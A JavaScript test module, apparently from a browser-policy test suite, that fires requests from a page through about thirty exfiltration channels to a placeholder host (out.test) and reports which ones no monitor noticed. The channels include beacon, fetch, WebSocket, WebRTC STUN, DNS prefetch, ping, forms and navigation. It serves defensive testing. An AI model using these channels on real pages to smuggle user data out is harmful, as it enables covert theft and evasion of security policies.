// Ways out of a page. What a policy stops, and what notices whatever gets out, is seen against a page without a policy.

/** Where a way leads: each has a name of its own, so that whatever is noticed says which it was. */
export const OUT = "out.test";

/** Tries every way, within a page. What is refused throws, or does nothing. Resolves to the names of the ways. */
export async function leak(out) {
  const put = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
  const link = (rel) => (href) => document.head.append(Object.assign(document.createElement("link"), { rel, href }));
  const ways = {
    audio: (to) => put("audio", { src: to }).load(),
    beacon: (to) => navigator.sendBeacon(to, "x"),
    css: (to) => (put("div", { textContent: "x" }).style.backgroundImage = `url(${to})`),
    "dns-prefetch": link("dns-prefetch"),
    embed: (to) => put("embed", { src: to, type: "image/png" }),
    eventsource: (to) => new EventSource(to),
    fetch: (to) => fetch(to, { mode: "no-cors" }),
    font: (to) => new FontFace("none", `url(${to})`).load(),
    form: (to) => put("form", { action: to, method: "post", target: put("iframe", { name: "target" }).name }).submit(),
    iframe: (to) => put("iframe", { src: to }),
    image: (to) => put("img", { src: to }),
    import: (to) => import(to),
    object: (to) => put("object", { data: to, type: "image/png" }),
    ping: (to) => put("a", { href: "#", ping: to }).click(),
    poster: (to) => put("video", { poster: to }),
    preconnect: link("preconnect"),
    prefetch: link("prefetch"),
    script: (to) => put("script", { src: to }),
    stylesheet: link("stylesheet"),
    svg: (to) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      svg.append(document.createElementNS(svg.namespaceURI, "image"));
      svg.firstChild.setAttribute("href", to);
      document.body.append(svg);
    },
    video: (to) => put("video", { src: to }).load(),
    webrtc: async (to) => {
      const { hostname } = new URL(to);
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${hostname}` }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
    },
    websocket: (to) => new WebSocket(to.replace("http", "ws")),
    webtransport: (to) => new WebTransport(to.replace("http", "https")).ready,
    window: (to) => open(to),
    worker: async (to) => {
      const { active, installing } = await navigator.serviceWorker.register("./worker.js");
      (active ?? installing).postMessage(to);
    },
    xhr: (to) => {
      const request = new XMLHttpRequest();
      request.open("GET", to);
      request.send();
    },
  };
  for (const [name, act] of Object.entries(ways)) {
    try {
      Promise.resolve(act(`http://${name}.${out}/`)).catch(() => {});
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  // The last takes the page away, once the names are told.
  setTimeout(() => (location.href = `http://navigation.${out}/`));
  return [...Object.keys(ways), "navigation"];
}

/** The ways of which no sink noticed anything. */
export function unnoticed(ways, sinks) {
  const noticed = new Set([...sinks].map((note) => note.split(" ")[1].replace(`.${OUT}`, "")));
  // What goes by UDP is known by what it says, or by its port.
  if (noticed.has("stun")) noticed.add("webrtc");
  return ways.filter((way) => !noticed.has(way));
}
